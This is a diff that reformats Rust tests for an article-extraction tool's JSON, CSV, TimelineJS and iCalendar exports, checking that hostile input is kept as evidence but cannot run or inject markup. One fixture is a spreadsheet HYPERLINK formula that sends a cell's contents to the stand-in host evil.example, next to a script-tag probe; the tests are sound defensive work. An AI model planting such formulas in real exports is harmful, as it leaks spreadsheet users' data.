@@ -52,7 +52,10 @@ fn run(format: &str, dir: &std::path::Path) -> String {
 }
 
 fn runs_in_a_spreadsheet(field: &str) -> bool {
-    matches!(field.trim_start_matches(' ').as_bytes().first(), Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r'))
+    matches!(
+        field.trim_start_matches(' ').as_bytes().first(),
+        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r')
+    )
 }
 
 /// A field as the spreadsheet-safe rule writes it: a leading quote before a dangerous start.
@@ -92,12 +95,24 @@ fn json_keeps_the_hostile_text_and_its_offsets() {
     }
     // The hostile text is there, unchanged.
     let all: String = sentences(&a).into_iter().map(|(_, _, s)| s).collect::<Vec<_>>().join("\n");
-    for piece in ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "<script>alert(1)</script>", "Van\u{202e}trow\u{202c}"] {
+    for piece in [
+        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+        "<script>alert(1)</script>",
+        "Van\u{202e}trow\u{202c}",
+    ] {
         assert!(all.contains(piece), "{piece:?} is kept in the evidence");
     }
     // Invisible controls inside a name neither split it nor stay in it.
-    assert!(a.actors.iter().any(|x| x.name == "Ilse Vantrow"), "the name with a right-to-left override inside is one name");
-    assert!(a.actors.iter().all(|x| !x.name.chars().any(|c| matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}'))));
+    assert!(
+        a.actors.iter().any(|x| x.name == "Ilse Vantrow"),
+        "the name with a right-to-left override inside is one name"
+    );
+    assert!(a
+        .actors
+        .iter()
+        .all(|x| !x.name.chars().any(
+            |c| matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
+        )));
     // The 10,000-character "name" is kept whole in its article's text; an actor that
     // holds any of it holds it whole.
     let long = "x".repeat(9_999);
@@ -169,7 +184,11 @@ fn timelinejs_holds_text_not_markup() {
         let headline = s["text"]["headline"].as_str().unwrap();
         // The only tags are the export's own paragraphs.
         let tags = text.matches('<').count();
-        assert_eq!(tags, text.matches("<p>").count() + text.matches("</p>").count(), "markup injected: {text}");
+        assert_eq!(
+            tags,
+            text.matches("<p>").count() + text.matches("</p>").count(),
+            "markup injected: {text}"
+        );
         assert!(!headline.contains('<'));
         assert_eq!(html_unescape(headline), ev.summary);
         for src in &ev.sources {
@@ -218,8 +237,19 @@ fn icalendar_has_only_its_own_properties_and_the_text_intact() {
     let ics = exports::ical(&a, jiff::civil::date(2026, 11, 22));
     let lines = content_lines(&ics);
     const OWN: &[&str] = &[
-        "BEGIN", "END", "VERSION", "PRODID", "CALSCALE", "UID", "DTSTAMP", "DTSTART", "DTEND", "SUMMARY",
-        "DESCRIPTION", "LOCATION", "CATEGORIES",
+        "BEGIN",
+        "END",
+        "VERSION",
+        "PRODID",
+        "CALSCALE",
+        "UID",
+        "DTSTAMP",
+        "DTSTART",
+        "DTEND",
+        "SUMMARY",
+        "DESCRIPTION",
+        "LOCATION",
+        "CATEGORIES",
     ];
     for (name, value) in &lines {
         assert!(OWN.contains(&name.as_str()), "a property the article made: {name}:{value}");
@@ -229,7 +259,8 @@ fn icalendar_has_only_its_own_properties_and_the_text_intact() {
     }
     let dated: Vec<&EventOut> = a.events.iter().filter(|e| e.date.is_some()).collect();
     assert_eq!(lines.iter().filter(|(n, v)| n == "BEGIN" && v == "VEVENT").count(), dated.len());
-    let summaries: Vec<String> = lines.iter().filter(|(n, _)| n == "SUMMARY").map(|(_, v)| ics_unescape(v)).collect();
+    let summaries: Vec<String> =
+        lines.iter().filter(|(n, _)| n == "SUMMARY").map(|(_, v)| ics_unescape(v)).collect();
     let descriptions: Vec<String> =
         lines.iter().filter(|(n, _)| n == "DESCRIPTION").map(|(_, v)| ics_unescape(v)).collect();
     for (k, ev) in dated.iter().enumerate() {
@@ -259,10 +290,8 @@ fn key_dates_parse_back_as_json_and_as_csv_with_nothing_a_spreadsheet_runs() {
     let csv = run("dates-csv", &dir);
     let mut reader = csv::Reader::from_reader(csv.as_bytes());
     let head = reader.headers().unwrap().clone();
-    let (date, summary) = (
-        head.iter().position(|h| h == "date").unwrap(),
-        head.iter().position(|h| h == "summary").unwrap(),
-    );
+    let (date, summary) =
+        (head.iter().position(|h| h == "date").unwrap(), head.iter().position(|h| h == "summary").unwrap());
     let mut rows = 0;
     for (rec, d) in reader.records().zip(days) {
         let rec = rec.expect("a CSV record");
